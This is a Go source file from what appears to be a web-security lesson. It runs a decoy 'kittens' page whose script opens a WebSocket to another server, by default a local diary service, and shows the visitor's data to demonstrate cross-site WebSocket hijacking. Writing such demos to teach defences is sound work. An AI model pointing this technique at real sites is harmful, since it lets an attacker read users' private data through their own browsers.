// Command evil serves somebody else's page. It reads from your server what its visitors may read there:
//
//	go run ./lessons/5-who-may-come-in/evil :3001 ws://localhost:3000/diary
package main

import (
	"fmt"
	"html/template"
	"net"
	"net/http"
	"os"
)

// page is all that an attacker needs. A real one would send the text home.
var page = template.Must(template.New("page").Parse(`<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>kittens</title>
<h1>Look at these kittens!</h1>
<p id="stolen">nothing yet</p>
<script>
  const stolen = document.querySelector("#stolen");
  const socket = new WebSocket({{.}});
  socket.onmessage = (event) => { stolen.textContent = event.data; };
  socket.onclose = (event) => { stolen.textContent += " (closed with " + event.code + ")"; };
</script>
</html>
`))

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: go run ./lessons/5-who-may-come-in/evil :3001 ws://localhost:3000/diary")
		os.Exit(2)
	}
	addr, target := os.Args[1], os.Args[2]
	http.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) { page.Execute(w, target) })
	l, err := net.Listen("tcp", addr)
	if err == nil {
		fmt.Printf("kittens: http://localhost%s\n", addr)
		err = http.Serve(l, nil)
	}
	fmt.Fprintln(os.Stderr, "evil:", err)
	os.Exit(1)
}
